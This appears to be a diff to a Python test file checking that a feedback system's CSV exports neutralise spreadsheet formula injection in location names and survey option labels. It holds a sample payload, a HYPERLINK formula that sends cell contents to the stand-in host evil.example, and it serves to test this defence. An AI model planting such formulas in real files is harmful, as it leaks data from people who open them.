@@ -1,5 +1,5 @@
 """Item 10: a name a spreadsheet would run as a formula goes into every CSV export as text,
-while negative numbers stay numbers."""
+while negative numbers stay numbers; so does a survey option worded as one (issue 15)."""
 
 import csv
 import io
@@ -13,10 +13,12 @@ from sqlalchemy.orm import Session, sessionmaker
 from hub.hierarchy import LocationTree
 from hub.ingest import store
 from hub.models import Event
-from hub.reporting.exports import csv_lines, responses_csv, scores_csv
+from hub.reporting.exports import csv_lines, reasons_csv, responses_csv, scores_csv
 from hub.rollups.buckets import Period
 from protocol.messages import Button
 from tests.hub.factories import NOON, press
+from tests.hub.reporting.followup_data import PERIOD, Traffic, add_places
+from tests.hub.surveys.survey_files import SECURITY, security
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
@@ -53,7 +55,7 @@ def hostile(sessions: sessionmaker[Session]) -> sessionmaker[Session]:
     return sessions
 
 
-@pytest.mark.parametrize("export", ["responses", "scores-by-location", "scores-by-day"])
+@pytest.mark.parametrize("export", ["responses", "scores-by-location", "scores-by-day", "reasons"])
 def test_no_cell_of_an_export_starts_a_formula(hostile: sessionmaker[Session], export: str) -> None:
     with hostile() as session:
         tree = LocationTree.load(session)
@@ -62,6 +64,7 @@ def test_no_cell_of_an_export_starts_a_formula(hostile: sessionmaker[Session], e
             "responses": lambda: responses_csv(session, everywhere, DAY),
             "scores-by-location": lambda: scores_csv(session, tree, everywhere, DAY, "location"),
             "scores-by-day": lambda: scores_csv(session, tree, everywhere, DAY, "day"),
+            "reasons": lambda: reasons_csv(session, tree, everywhere, DAY),
         }[export]()
         rows = _cells(chunks)
     names = {row[rows[0].index("location_name")] for row in rows[1:]}
@@ -70,6 +73,37 @@ def test_no_cell_of_an_export_starts_a_formula(hostile: sessionmaker[Session], e
         for cell in row:
             assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
             assert not cell.startswith("-") or float(cell) < 0, cell
+
+
+def _formula_survey() -> str:
+    """The security survey with two options worded as formulas (in its default language)."""
+    text = SECURITY.replace('en = "Staff"', f"en = '{FORMULAS[0]}'")
+    return text.replace('en = "Fast"', f"en = '{FORMULAS[3]}'")
+
+
+@pytest.mark.parametrize("export", ["responses", "reasons"])
+def test_an_option_worded_as_a_formula_is_exported_as_text(
+    sessions: sessionmaker[Session], export: str
+) -> None:
+    traffic = Traffic()
+    traffic.add(Button.UNHAPPY, "staff")
+    traffic.add(Button.HAPPY, "fast", location_id="lane-2")
+    with sessions.begin() as session:
+        add_places(session, security(_formula_survey()))
+        traffic.store(session)
+    with sessions() as session:
+        tree = LocationTree.load(session)
+        places = set(tree.places)
+        if export == "responses":
+            rows = _cells(responses_csv(session, places, PERIOD))
+        else:
+            rows = _cells(reasons_csv(session, tree, places, PERIOD))
+    column = "followup_label" if export == "responses" else "label"
+    labels = {row[rows[0].index(column)] for row in rows[1:]}
+    assert labels >= {f"'{FORMULAS[0]}", f"'{FORMULAS[3]}"}
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
 
 
 def test_negative_numbers_stay_numbers(hostile: sessionmaker[Session]) -> None:
